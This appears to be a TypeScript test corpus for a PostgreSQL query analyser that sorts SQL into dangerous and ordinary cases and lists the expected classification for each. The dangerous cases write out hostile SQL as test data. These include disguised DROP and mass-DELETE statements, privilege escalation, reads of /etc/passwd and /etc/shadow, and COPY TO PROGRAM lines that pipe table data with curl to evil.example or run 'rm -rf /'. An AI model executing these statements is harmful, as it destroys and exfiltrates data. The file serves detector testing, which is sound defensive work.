import { PSQL_CATALOG_QUERIES } from './psql-catalog.js';
import { alwaysTrue, type Corpus, type CorpusCase, noWhere, restricted } from './types.js';

const dropUsers = { kind: 'ddl', command: 'DROP TABLE', tablesWritten: ['users'] } as const;
const deleteAll = {
  kind: 'delete',
  command: 'DELETE',
  tablesWritten: ['users'],
  dml: [noWhere('delete', 'users')],
} as const;
const deleteTautology = {
  kind: 'delete',
  tablesWritten: ['users'],
  dml: [alwaysTrue('delete', 'users')],
} as const;
const updateTautology = {
  kind: 'update',
  tablesWritten: ['users'],
  dml: [alwaysTrue('update', 'users')],
} as const;
const notUnderstood = { kind: 'other', understood: false } as const;

const dangerous: CorpusCase[] = [
  // DROP in disguises
  { sql: 'DROP TABLE users', expect: dropUsers },
  { sql: 'drop table users', expect: dropUsers },
  { sql: 'DrOp   TaBlE\n\t"users"', expect: dropUsers },
  { sql: '/* harmless */ DROP /* really */ TABLE users -- bye', expect: dropUsers },
  { sql: 'DROP/**/TABLE/**/users', expect: dropUsers },
  { sql: '/* a /* nested */ comment */ DROP TABLE users', expect: dropUsers },
  { sql: 'DROP TABLE users;', expect: dropUsers },
  {
    sql: 'DROP TABLE IF EXISTS public.users, orders CASCADE',
    expect: { kind: 'ddl', command: 'DROP TABLE', tablesWritten: ['public.users', 'orders'] },
  },
  { sql: 'DROP TABLE "Users"', expect: { kind: 'ddl', tablesWritten: ['Users'] } },
  { sql: 'DROP SCHEMA payroll CASCADE', expect: { kind: 'ddl', command: 'DROP SCHEMA' } },
  { sql: 'DROP DATABASE prod', expect: { kind: 'ddl', command: 'DROP DATABASE' } },
  { sql: 'DROP INDEX CONCURRENTLY idx_users_email', expect: { kind: 'ddl', command: 'DROP INDEX' } },
  { sql: 'DROP VIEW v_users', expect: { kind: 'ddl', command: 'DROP VIEW', tablesWritten: ['v_users'] } },
  {
    sql: 'DROP MATERIALIZED VIEW daily_totals',
    expect: { kind: 'ddl', command: 'DROP MATERIALIZED VIEW', tablesWritten: ['daily_totals'] },
  },
  { sql: 'DROP FUNCTION audit_trigger(int)', expect: { kind: 'ddl', command: 'DROP FUNCTION' } },
  { sql: 'DROP EXTENSION pgcrypto', expect: { kind: 'ddl', command: 'DROP EXTENSION' } },
  { sql: 'DROP OWNED BY bob', expect: { kind: 'ddl', command: 'DROP OWNED' } },
  // TRUNCATE empties tables: a DELETE without WHERE
  {
    sql: 'TRUNCATE users',
    expect: {
      kind: 'delete',
      command: 'TRUNCATE',
      tablesWritten: ['users'],
      dml: [noWhere('delete', 'users')],
    },
  },
  {
    sql: 'truncate table only users restart identity cascade',
    expect: { kind: 'delete', command: 'TRUNCATE', dml: [noWhere('delete', 'users')] },
  },
  {
    sql: 'TRUNCATE "Users", orders',
    expect: {
      kind: 'delete',
      tablesWritten: ['Users', 'orders'],
      dml: [noWhere('delete', 'Users'), noWhere('delete', 'orders')],
    },
  },
  // ALTER
  {
    sql: 'ALTER TABLE users DROP COLUMN email',
    expect: { kind: 'ddl', command: 'ALTER TABLE', tablesWritten: ['users'] },
  },
  {
    sql: 'ALTER TABLE IF EXISTS ONLY public.users ADD COLUMN note text',
    expect: { kind: 'ddl', command: 'ALTER TABLE', tablesWritten: ['public.users'] },
  },
  {
    sql: 'alter table users rename to people',
    expect: { kind: 'ddl', command: 'ALTER TABLE', tablesWritten: ['users'] },
  },
  { sql: 'ALTER TABLE users DISABLE ROW LEVEL SECURITY', expect: { kind: 'ddl', command: 'ALTER TABLE' } },
  { sql: 'ALTER DATABASE prod OWNER TO bob', expect: { kind: 'ddl', command: 'ALTER DATABASE' } },
  { sql: 'ALTER SCHEMA payroll RENAME TO archive', expect: { kind: 'ddl', command: 'ALTER SCHEMA' } },
  { sql: 'ALTER FUNCTION f() SECURITY DEFINER', expect: { kind: 'ddl', command: 'ALTER FUNCTION' } },
  {
    sql: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob',
    expect: { kind: 'dcl', command: 'ALTER DEFAULT PRIVILEGES' },
  },
  // roles and users
  { sql: "CREATE ROLE admin SUPERUSER LOGIN PASSWORD 'x'", expect: { kind: 'dcl', command: 'CREATE ROLE' } },
  { sql: "create user mallory with password 'p'", expect: { kind: 'dcl', command: 'CREATE USER' } },
  { sql: 'ALTER ROLE bob SUPERUSER', expect: { kind: 'dcl', command: 'ALTER ROLE' } },
  { sql: "ALTER USER bob WITH PASSWORD 'x'", expect: { kind: 'dcl', command: 'ALTER USER' } },
  { sql: 'ALTER ROLE bob SET search_path = payroll', expect: { kind: 'dcl', command: 'ALTER ROLE' } },
  { sql: 'DROP ROLE bob', expect: { kind: 'dcl', command: 'DROP ROLE' } },
  { sql: 'DROP USER IF EXISTS bob', expect: { kind: 'dcl', command: 'DROP USER' } },
  { sql: 'CREATE GROUP auditors', expect: { kind: 'dcl', command: 'CREATE GROUP' } },
  // GRANT / REVOKE
  {
    sql: 'GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO bob',
    expect: { kind: 'dcl', command: 'GRANT' },
  },
  {
    sql: 'GRANT SELECT ON payroll.salaries TO bob',
    expect: { kind: 'dcl', command: 'GRANT', tablesWritten: ['payroll.salaries'] },
  },
  {
    sql: 'REVOKE INSERT ON TABLE orders FROM bob',
    expect: { kind: 'dcl', command: 'REVOKE', tablesWritten: ['orders'] },
  },
  { sql: 'GRANT admin TO bob', expect: { kind: 'dcl', command: 'GRANT' } },
  {
    sql: 'grant usage on schema payroll to bob',
    expect: { kind: 'dcl', command: 'GRANT', tablesWritten: [] },
  },
  // ALTER SYSTEM
  {
    sql: "ALTER SYSTEM SET shared_preload_libraries = 'evil'",
    expect: {
      kind: 'set',
      command: 'ALTER SYSTEM',
      settingChange: { name: 'shared_preload_libraries', value: 'evil', scope: 'global' },
    },
  },
  {
    sql: 'alter system reset all',
    expect: {
      kind: 'set',
      command: 'ALTER SYSTEM',
      settingChange: { name: 'all', value: null, scope: 'global' },
    },
  },
  // DELETE / UPDATE without WHERE or with a constant-true WHERE
  { sql: 'DELETE FROM users', expect: deleteAll },
  { sql: 'delete from users', expect: deleteAll },
  { sql: 'DELETE FROM ONLY users', expect: deleteAll },
  { sql: 'DELETE FROM public.users', expect: { kind: 'delete', dml: [noWhere('delete', 'public.users')] } },
  { sql: 'DELETE FROM "users" AS u', expect: deleteAll },
  { sql: 'DELETE FROM users RETURNING *', expect: deleteAll },
  { sql: 'DELETE FROM users WHERE 1=1', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE true', expect: deleteTautology },
  { sql: "DELETE FROM users WHERE 'a' = 'a'", expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE 2 > 1', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE 1 <> 2', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE id = id', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE NOT false', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE id = 5 OR true', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE id = 5 OR 1 = 1', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE true AND true', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE 1 IS NOT NULL', expect: deleteTautology },
  { sql: "DELETE FROM users WHERE 'a' LIKE '%'", expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE id IS NULL OR id IS NOT NULL', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE (1) = (1)', expect: deleteTautology },
  { sql: "DELETE FROM users WHERE 't'::boolean", expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE 1 + 1 = 2', expect: deleteTautology },
  { sql: "DELETE FROM users WHERE 'x' || 'y' = 'xy'", expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE 3 BETWEEN SYMMETRIC 5 AND 1', expect: deleteTautology },
  { sql: "DELETE FROM users WHERE '1' = '1' -- keep it", expect: deleteTautology },
  { sql: 'DELETE/**/FROM/**/users/**/WHERE/**/1=1', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE 1 = 1 RETURNING id', expect: deleteTautology },
  { sql: 'DELETE FROM users WHERE CAST(1 AS boolean)', expect: deleteTautology },
  {
    sql: 'UPDATE users SET admin = true',
    expect: {
      kind: 'update',
      command: 'UPDATE',
      tablesWritten: ['users'],
      dml: [noWhere('update', 'users')],
    },
  },
  { sql: 'UPDATE users SET admin = true WHERE 1=1', expect: updateTautology },
  { sql: `update "users" set "admin" = true where 'x' = 'x'`, expect: updateTautology },
  { sql: 'UPDATE users SET score = 0 WHERE score = score', expect: updateTautology },
  { sql: 'UPDATE users SET score = 0 WHERE 5 BETWEEN 1 AND 10', expect: updateTautology },
  { sql: 'UPDATE users SET score = 0 WHERE 1 IN (1, 2)', expect: updateTautology },
  { sql: 'UPDATE users SET score = 0 WHERE NULL IS NULL', expect: updateTautology },
  {
    sql: 'UPDATE users u SET email = NULL FROM orders o',
    expect: {
      kind: 'update',
      tablesRead: ['orders'],
      tablesWritten: ['users'],
      dml: [noWhere('update', 'users')],
    },
  },
  // DML hidden in CTEs
  {
    sql: 'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d',
    expect: {
      kind: 'delete',
      command: 'SELECT',
      tablesWritten: ['users'],
      dml: [noWhere('delete', 'users')],
      nestedDml: true,
    },
  },
  {
    sql: 'WITH u AS (UPDATE users SET admin = true RETURNING id) SELECT count(*) FROM u',
    expect: { kind: 'update', dml: [noWhere('update', 'users')], nestedDml: true },
  },
  {
    sql: 'with x as (select 1) delete from users',
    expect: { kind: 'delete', command: 'DELETE', dml: [noWhere('delete', 'users')], nestedDml: false },
  },
  {
    sql: 'WITH a AS (SELECT 1), b AS (DELETE FROM users WHERE 1=1 RETURNING id) SELECT * FROM b',
    expect: { kind: 'delete', dml: [alwaysTrue('delete', 'users')], nestedDml: true },
  },
  {
    sql: 'WITH moved AS (DELETE FROM queue RETURNING *) INSERT INTO archive SELECT * FROM moved',
    expect: {
      kind: 'insert',
      tablesWritten: ['queue', 'archive'],
      dml: [noWhere('delete', 'queue')],
      nestedDml: true,
    },
  },
  // EXPLAIN ANALYZE runs the statement
  {
    sql: 'EXPLAIN ANALYZE DELETE FROM users',
    expect: { kind: 'delete', command: 'EXPLAIN', dml: [noWhere('delete', 'users')] },
  },
  {
    sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET score = 1',
    expect: { kind: 'update', command: 'EXPLAIN', dml: [noWhere('update', 'users')] },
  },
  {
    sql: 'explain analyse delete from users where 1=1',
    expect: { kind: 'delete', command: 'EXPLAIN', dml: [alwaysTrue('delete', 'users')] },
  },
  {
    sql: 'EXPLAIN (ANALYZE true, FORMAT JSON) DELETE FROM users',
    expect: { kind: 'delete', command: 'EXPLAIN', dml: [noWhere('delete', 'users')] },
  },
  {
    sql: 'PREPARE wipe AS DELETE FROM users',
    expect: { kind: 'delete', command: 'PREPARE', dml: [noWhere('delete', 'users')] },
  },
  // COPY to or from a program or a server file
  {
    sql: "COPY users TO PROGRAM 'curl -d @- https://evil.example'",
    expect: {
      kind: 'copy',
      command: 'COPY',
      tablesRead: ['users'],
      copy: { direction: 'to', target: 'program', table: 'users' },
    },
  },
  {
    sql: "COPY users FROM PROGRAM 'cat /etc/passwd'",
    expect: {
      kind: 'copy',
      tablesWritten: ['users'],
      copy: { direction: 'from', target: 'program', table: 'users' },
    },
  },
  {
    sql: 'copy users to program $$rm -rf /$$',
    expect: { kind: 'copy', copy: { direction: 'to', target: 'program', table: 'users' } },
  },
  {
    sql: "COPY users (email) TO PROGRAM 'x' WITH (FORMAT csv)",
    expect: { kind: 'copy', copy: { direction: 'to', target: 'program', table: 'users' } },
  },
  {
    sql: "COPY users FROM '/etc/passwd'",
    expect: { kind: 'copy', fileAccess: true, copy: { direction: 'from', target: 'file', table: 'users' } },
  },
  {
    sql: "COPY (SELECT * FROM payroll.salaries) TO '/tmp/salaries.csv'",
    expect: {
      kind: 'copy',
      tablesRead: ['payroll.salaries'],
      fileAccess: true,
      copy: { direction: 'to', target: 'file', table: null },
    },
  },
  // server file access through functions
  {
    sql: "SELECT pg_read_file('/etc/passwd')",
    expect: { kind: 'select', functions: ['pg_read_file'], fileAccess: true },
  },
  {
    sql: "SELECT pg_catalog.pg_read_file('postgresql.conf')",
    expect: { kind: 'select', functions: ['pg_catalog.pg_read_file'], fileAccess: true },
  },
  {
    sql: "select PG_READ_BINARY_FILE('/etc/shadow')",
    expect: { kind: 'select', functions: ['pg_read_binary_file'], fileAccess: true },
  },
  {
    sql: "SELECT * FROM pg_ls_dir('.')",
    expect: { kind: 'select', functions: ['pg_ls_dir'], fileAccess: true, tablesRead: [] },
  },
  { sql: "SELECT pg_stat_file('base')", expect: { kind: 'select', fileAccess: true } },
  {
    sql: "SELECT lo_import('/etc/passwd')",
    expect: { kind: 'select', functions: ['lo_import'], fileAccess: true },
  },
  {
    sql: "SELECT lo_export(16384, '/tmp/x')",
    expect: { kind: 'select', functions: ['lo_export'], fileAccess: true },
  },
  {
    sql: `SELECT "pg_read_file"('/etc/passwd')`,
    expect: { kind: 'select', functions: ['pg_read_file'], fileAccess: true },
  },
  { sql: "SELECT (SELECT pg_read_file('/etc/passwd'))", expect: { kind: 'select', fileAccess: true } },
  {
    sql: "SELECT id FROM users WHERE name = pg_read_file('/etc/hostname')",
    expect: { kind: 'select', tablesRead: ['users'], fileAccess: true },
  },
  { sql: "LOAD 'plpgsql'", expect: { kind: 'other', command: 'LOAD', fileAccess: true } },
  // dynamic SQL that hides its text
  {
    sql: "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
    expect: { kind: 'other', command: 'DO', dynamicSql: true },
  },
  {
    sql: 'do language plpgsql $x$ begin perform 1; end $x$',
    expect: { kind: 'other', command: 'DO', dynamicSql: true },
  },
  { sql: "DO 'BEGIN NULL; END'", expect: { kind: 'other', command: 'DO', dynamicSql: true } },
  { sql: 'EXECUTE wipe', expect: { kind: 'other', command: 'EXECUTE', dynamicSql: true } },
  { sql: 'EXECUTE fetch_user(1, 2)', expect: { kind: 'other', command: 'EXECUTE', dynamicSql: true } },
  {
    sql: "SELECT query_to_xml('SELECT * FROM payroll.salaries', true, true, '')",
    expect: { kind: 'select', dynamicSql: true },
  },
  {
    sql: "SELECT * FROM dblink('dbname=prod', 'DELETE FROM users') AS t(n int)",
    expect: { kind: 'select', dynamicSql: true, functions: ['dblink'] },
  },
  // SET ROLE / SET SESSION AUTHORIZATION
  {
    sql: 'SET ROLE postgres',
    expect: {
      kind: 'set',
      command: 'SET ROLE',
      settingChange: { name: 'role', value: 'postgres', scope: 'session' },
    },
  },
  {
    sql: 'set local role admin',
    expect: {
      kind: 'set',
      command: 'SET ROLE',
      settingChange: { name: 'role', value: 'admin', scope: 'local' },
    },
  },
  {
    sql: "SET SESSION AUTHORIZATION 'postgres'",
    expect: {
      kind: 'set',
      command: 'SET SESSION AUTHORIZATION',
      settingChange: { name: 'session_authorization', value: 'postgres', scope: 'session' },
    },
  },
  {
    sql: 'SET SESSION SESSION AUTHORIZATION DEFAULT',
    expect: { kind: 'set', settingChange: { name: 'session_authorization', value: null, scope: 'session' } },
  },
  {
    sql: 'RESET ROLE',
    expect: {
      kind: 'set',
      command: 'RESET ROLE',
      settingChange: { name: 'role', value: null, scope: 'session' },
    },
  },
  { sql: 'RESET SESSION AUTHORIZATION', expect: { kind: 'set', command: 'RESET SESSION AUTHORIZATION' } },
  {
    sql: "SELECT set_config('role', 'postgres', false)",
    expect: { kind: 'select', settingChange: { name: 'role', value: 'postgres', scope: 'session' } },
  },
  // DDL that writes data or hides DML in a body
  {
    sql: 'CREATE TABLE stolen AS SELECT * FROM payroll.salaries',
    expect: {
      kind: 'ddl',
      command: 'CREATE TABLE',
      tablesRead: ['payroll.salaries'],
      tablesWritten: ['stolen'],
    },
  },
  {
    sql: 'SELECT * INTO stolen FROM payroll.salaries',
    expect: {
      kind: 'ddl',
      command: 'SELECT INTO',
      tablesRead: ['payroll.salaries'],
      tablesWritten: ['stolen'],
    },
  },
  {
    sql: 'CREATE FUNCTION wipe() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END',
    expect: { kind: 'ddl', command: 'CREATE FUNCTION', dml: [noWhere('delete', 'users')], nestedDml: true },
  },
  {
    sql: 'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM users',
    expect: { kind: 'ddl', command: 'CREATE RULE', dml: [noWhere('delete', 'users')], nestedDml: true },
  },
  {
    sql: 'CREATE POLICY everyone ON users USING (true)',
    expect: { kind: 'ddl', command: 'CREATE POLICY', tablesWritten: ['users'] },
  },
  { sql: 'CREATE EXTENSION dblink', expect: { kind: 'ddl', command: 'CREATE EXTENSION' } },
  {
    sql: 'MERGE INTO users u USING staged s ON u.id = s.id WHEN MATCHED THEN DELETE',
    expect: {
      kind: 'merge',
      command: 'MERGE',
      tablesRead: ['staged'],
      tablesWritten: ['users'],
      dml: [restricted('delete', 'users')],
    },
  },
  {
    sql: 'MERGE INTO users USING staged ON true WHEN MATCHED THEN DELETE',
    expect: { kind: 'merge', dml: [alwaysTrue('delete', 'users')] },
  },
  {
    sql: 'MERGE INTO users u USING staged s ON u.id = s.id WHEN NOT MATCHED BY SOURCE THEN UPDATE SET active = false',
    expect: { kind: 'merge', dml: [noWhere('update', 'users')] },
  },
  {
    sql: `SELECT U&"\\0070g_read_file"('/etc/passwd')`,
    expect: { kind: 'select', functions: ['pg_read_file'], fileAccess: true },
  },
  // stacked statements: each is analysed
  {
    sql: 'BEGIN; DROP TABLE users; COMMIT',
    expect: [{ kind: 'tcl', command: 'BEGIN' }, dropUsers, { kind: 'tcl', command: 'COMMIT' }],
  },
  { sql: 'SELECT 1; DELETE FROM users', expect: [{ kind: 'select' }, deleteAll] },
  { sql: 'select 1;delete from users;--', expect: [{ kind: 'select' }, deleteAll] },
  { sql: "SELECT 'a;b'; DROP TABLE users", expect: [{ kind: 'select' }, dropUsers] },
  {
    sql: 'SELECT $$;$$; TRUNCATE users',
    expect: [{ kind: 'select' }, { kind: 'delete', command: 'TRUNCATE' }],
  },
  // what cannot be analysed
  { sql: 'SELEC * FROM users', expect: notUnderstood },
  { sql: 'DELETE', expect: { kind: 'delete', understood: false } },
  { sql: '\\d users', expect: notUnderstood },
  { sql: 'DROP', expect: { kind: 'ddl', understood: false } },
  { sql: "SELECT 'unterminated", expect: notUnderstood },
  { sql: '/* unterminated comment SELECT 1', expect: notUnderstood },
  { sql: 'SELECT $$ never closed', expect: notUnderstood },
  { sql: 'FOO BAR BAZ', expect: notUnderstood },
  { sql: 'SELECT (1', expect: { kind: 'select', understood: false } },
  { sql: ')', expect: notUnderstood },
];

const select = { kind: 'select', command: 'SELECT' } as const;

const ordinary: CorpusCase[] = [
  // OLTP
  { sql: 'SELECT * FROM users WHERE id = $1', expect: { ...select, tablesRead: ['users'] } },
  {
    sql: 'SELECT id, email FROM public.users WHERE email = $1 LIMIT 1',
    expect: { ...select, tablesRead: ['public.users'] },
  },
  {
    sql: 'INSERT INTO users (email, name) VALUES ($1, $2) RETURNING id',
    expect: { kind: 'insert', command: 'INSERT', tablesWritten: ['users'], dml: [] },
  },
  { sql: 'INSERT INTO t (a) VALUES (1), (2), (3)', expect: { kind: 'insert', tablesWritten: ['t'] } },
  {
    sql: 'INSERT INTO archive SELECT * FROM orders WHERE created_at < $1',
    expect: { kind: 'insert', tablesRead: ['orders'], tablesWritten: ['archive'] },
  },
  {
    sql: 'INSERT INTO counters (id, n) VALUES (1, 1) ON CONFLICT (id) DO UPDATE SET n = counters.n + 1',
    expect: { kind: 'insert', tablesWritten: ['counters'], dml: [] },
  },
  {
    sql: 'INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING',
    expect: { kind: 'insert', tablesWritten: ['t'] },
  },
  {
    sql: 'UPDATE users SET name = $1 WHERE id = $2',
    expect: { kind: 'update', dml: [restricted('update', 'users')] },
  },
  {
    sql: 'UPDATE accounts SET balance = balance - 10 WHERE id = 1 RETURNING balance',
    expect: { kind: 'update', dml: [restricted('update', 'accounts')] },
  },
  {
    sql: 'DELETE FROM sessions WHERE expires_at < now()',
    expect: { kind: 'delete', dml: [restricted('delete', 'sessions')] },
  },
  {
    sql: 'DELETE FROM t WHERE id = ANY($1::int[])',
    expect: { kind: 'delete', dml: [restricted('delete', 't')] },
  },
  {
    sql: 'DELETE FROM t WHERE id = $1 AND 1=1',
    expect: { kind: 'delete', dml: [restricted('delete', 't')] },
  },
  { sql: 'DELETE FROM t WHERE $1 = $2', expect: { kind: 'delete', dml: [restricted('delete', 't')] } },
  {
    sql: 'DELETE FROM orders o USING users u WHERE o.user_id = u.id AND u.banned',
    expect: {
      kind: 'delete',
      tablesRead: ['users'],
      tablesWritten: ['orders'],
      dml: [restricted('delete', 'orders')],
    },
  },
  { sql: 'SELECT * FROM users WHERE id = ANY($1::int[])', expect: { ...select, tablesRead: ['users'] } },
  {
    sql: "SELECT id FROM jobs WHERE state = 'ready' ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED",
    expect: { ...select, tablesRead: ['jobs'] },
  },
  { sql: 'SELECT * FROM t FOR NO KEY UPDATE', expect: { ...select, tablesRead: ['t'] } },
  { sql: 'SELECT * FROM t FOR SHARE NOWAIT', expect: { ...select, tablesRead: ['t'] } },
  {
    sql: "UPDATE jobs SET state = 'running' WHERE id = (SELECT id FROM jobs WHERE state = 'ready' ORDER BY id FOR UPDATE SKIP LOCKED LIMIT 1) RETURNING id",
    expect: {
      kind: 'update',
      tablesRead: ['jobs'],
      tablesWritten: ['jobs'],
      dml: [restricted('update', 'jobs')],
    },
  },
  {
    sql: "SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'",
    expect: { ...select, tablesRead: ['orders'] },
  },
  // reporting
  {
    sql: "SELECT date_trunc('day', created_at) AS day, sum(total) FROM orders GROUP BY 1 ORDER BY 1",
    expect: { ...select, tablesRead: ['orders'], functions: ['date_trunc', 'sum'] },
  },
  {
    sql: 'SELECT user_id, total, rank() OVER (PARTITION BY user_id ORDER BY total DESC) FROM orders',
    expect: { ...select, tablesRead: ['orders'] },
  },
  {
    sql: 'SELECT u.name, o.total FROM users u LEFT JOIN orders o ON o.user_id = u.id',
    expect: { ...select, tablesRead: ['users', 'orders'] },
  },
  { sql: 'SELECT * FROM a NATURAL JOIN b', expect: { ...select, tablesRead: ['a', 'b'] } },
  { sql: 'SELECT * FROM a, b, c WHERE a.id = b.id', expect: { ...select, tablesRead: ['a', 'b', 'c'] } },
  {
    sql: 'SELECT * FROM a CROSS JOIN LATERAL (SELECT * FROM b WHERE b.a_id = a.id LIMIT 1) x',
    expect: { ...select, tablesRead: ['a', 'b'] },
  },
  {
    sql: 'SELECT * FROM (a JOIN b ON a.id = b.a_id) JOIN c ON c.id = b.c_id',
    expect: { ...select, tablesRead: ['a', 'b', 'c'] },
  },
  {
    sql: 'SELECT g FROM generate_series(1, 10) g',
    expect: { ...select, tablesRead: [], functions: ['generate_series'] },
  },
  {
    sql: 'WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 100) SELECT sum(n) FROM t',
    expect: { ...select, tablesRead: [] },
  },
  {
    sql: 'WITH active AS (SELECT * FROM users WHERE active) SELECT count(*) FROM active',
    expect: { ...select, tablesRead: ['users'] },
  },
  {
    sql: 'SELECT a FROM t UNION SELECT b FROM u EXCEPT SELECT c FROM v',
    expect: { ...select, tablesRead: ['t', 'u', 'v'] },
  },
  {
    sql: 'SELECT extract(year FROM created_at), substring(name FROM 1 FOR 3) FROM users',
    expect: { ...select, tablesRead: ['users'] },
  },
  { sql: 'SELECT * FROM t WHERE a IS DISTINCT FROM b', expect: { ...select, tablesRead: ['t'] } },
  {
    sql: 'SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.t_id = t.id)',
    expect: { ...select, tablesRead: ['t', 'u'] },
  },
  { sql: 'VALUES (1, 2), (3, 4)', expect: { kind: 'select', command: 'VALUES' } },
  {
    sql: 'SELECT id, name FROM staff UNION TABLE contractors',
    expect: { ...select, tablesRead: ['staff', 'contractors'] },
  },
  { sql: 'TABLE users', expect: { kind: 'select', command: 'TABLE', tablesRead: ['users'] } },
  {
    sql: "SELECT data->>'name', data #> '{a,b}' FROM docs WHERE data ? 'name'",
    expect: { ...select, tablesRead: ['docs'] },
  },
  { sql: 'SELECT ARRAY(SELECT id FROM users)', expect: { ...select, tablesRead: ['users'] } },
  // ORMs and drivers
  { sql: 'SELECT EXISTS (SELECT FROM users WHERE id = $1)', expect: { ...select, tablesRead: ['users'] } },
  {
    sql: 'SELECT "public"."User"."id", "public"."User"."email" FROM "public"."User" WHERE ("public"."User"."email" = $1 AND 1=1) LIMIT $2 OFFSET $3',
    expect: { ...select, tablesRead: ['public.User'] },
  },
  {
    sql: 'DELETE FROM "public"."Post" WHERE ("public"."Post"."id" = $1 AND 1=1)',
    expect: { kind: 'delete', dml: [restricted('delete', 'public.Post')] },
  },
  {
    sql: 'UPDATE "public"."User" SET "name" = $1 WHERE ("public"."User"."id" = $2 AND 1=1) RETURNING "public"."User"."id"',
    expect: { kind: 'update', dml: [restricted('update', 'public.User')] },
  },
  { sql: 'select * from "users" where "id" = $1 limit $2', expect: { ...select, tablesRead: ['users'] } },
  { sql: "SELECT CAST('test plain returns' AS VARCHAR(60)) AS anon_1", expect: select },
  { sql: 'select pg_catalog.version()', expect: { ...select, functions: ['pg_catalog.version'] } },
  { sql: 'select current_schema()', expect: select },
  { sql: 'show standard_conforming_strings', expect: { kind: 'show', command: 'SHOW' } },
  {
    sql: "select b.oid, b.typarray from pg_catalog.pg_type a left join pg_catalog.pg_type b on b.oid = a.typelem where a.typcategory = 'A' group by b.oid, b.typarray order by b.oid",
    expect: { ...select, tablesRead: ['pg_catalog.pg_type'] },
  },
  {
    sql: 'select oid, typbasetype from pg_type where typname = $1',
    expect: { ...select, tablesRead: ['pg_type'] },
  },
  { sql: "SELECT current_setting('server_version_num')::integer AS version", expect: select },
  {
    sql: 'SET extra_float_digits = 3',
    expect: { kind: 'set', settingChange: { name: 'extra_float_digits', value: '3', scope: 'session' } },
  },
  {
    sql: "SET application_name = 'PostgreSQL JDBC Driver'",
    expect: {
      kind: 'set',
      settingChange: { name: 'application_name', value: 'PostgreSQL JDBC Driver', scope: 'session' },
    },
  },
  {
    sql: "SELECT set_config('app.user_id', '42', false)",
    expect: { kind: 'select', settingChange: { name: 'app.user_id', value: '42', scope: 'session' } },
  },
  {
    sql: "SELECT set_config('app.tenant', $1, true)",
    expect: { kind: 'select', settingChange: { name: 'app.tenant', value: '$1', scope: 'local' } },
  },
  // settings, transactions, session
  { sql: 'SELECT 1', expect: select },
  { sql: 'SELECT version()', expect: select },
  { sql: 'SHOW server_version', expect: { kind: 'show' } },
  { sql: 'SHOW ALL', expect: { kind: 'show' } },
  {
    sql: 'SET search_path TO a, b',
    expect: { kind: 'set', settingChange: { name: 'search_path', value: 'a, b', scope: 'session' } },
  },
  {
    sql: 'SET search_path = "$user", public',
    expect: { kind: 'set', settingChange: { name: 'search_path', value: '$user, public', scope: 'session' } },
  },
  {
    sql: "SET TIME ZONE 'UTC'",
    expect: { kind: 'set', settingChange: { name: 'timezone', value: 'UTC', scope: 'session' } },
  },
  {
    sql: "SET LOCAL lock_timeout = '1s'",
    expect: { kind: 'set', settingChange: { name: 'lock_timeout', value: '1s', scope: 'local' } },
  },
  {
    sql: "SET NAMES 'UTF8'",
    expect: { kind: 'set', settingChange: { name: 'client_encoding', value: 'UTF8', scope: 'session' } },
  },
  {
    sql: 'SET standard_conforming_strings = off',
    expect: {
      kind: 'set',
      settingChange: { name: 'standard_conforming_strings', value: 'off', scope: 'session' },
    },
  },
  {
    sql: "SET client_encoding TO 'SJIS'",
    expect: { kind: 'set', settingChange: { name: 'client_encoding', value: 'SJIS', scope: 'session' } },
  },
  {
    sql: 'SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE',
    expect: { kind: 'tcl', command: 'SET TRANSACTION' },
  },
  {
    sql: 'SET TRANSACTION ISOLATION LEVEL REPEATABLE READ',
    expect: { kind: 'tcl', command: 'SET TRANSACTION' },
  },
  { sql: 'SET CONSTRAINTS ALL DEFERRED', expect: { kind: 'set', command: 'SET CONSTRAINTS' } },
  {
    sql: 'RESET ALL',
    expect: { kind: 'set', command: 'RESET', settingChange: { name: 'all', value: null, scope: 'session' } },
  },
  {
    sql: 'RESET statement_timeout',
    expect: { kind: 'set', settingChange: { name: 'statement_timeout', value: null, scope: 'session' } },
  },
  {
    sql: 'DISCARD ALL',
    expect: {
      kind: 'other',
      command: 'DISCARD',
      settingChange: { name: 'all', value: null, scope: 'session' },
    },
  },
  { sql: 'BEGIN', expect: { kind: 'tcl', command: 'BEGIN' } },
  { sql: 'BEGIN ISOLATION LEVEL SERIALIZABLE', expect: { kind: 'tcl', command: 'BEGIN' } },
  { sql: 'START TRANSACTION READ ONLY', expect: { kind: 'tcl', command: 'START TRANSACTION' } },
  { sql: 'COMMIT', expect: { kind: 'tcl', command: 'COMMIT' } },
  { sql: 'END', expect: { kind: 'tcl', command: 'END' } },
  { sql: 'ROLLBACK', expect: { kind: 'tcl', command: 'ROLLBACK' } },
  { sql: 'ABORT', expect: { kind: 'tcl', command: 'ABORT' } },
  { sql: 'SAVEPOINT sp1', expect: { kind: 'tcl', command: 'SAVEPOINT' } },
  { sql: 'ROLLBACK TO SAVEPOINT sp1', expect: { kind: 'tcl', command: 'ROLLBACK TO SAVEPOINT' } },
  { sql: 'ROLLBACK TO sp1', expect: { kind: 'tcl', command: 'ROLLBACK TO SAVEPOINT' } },
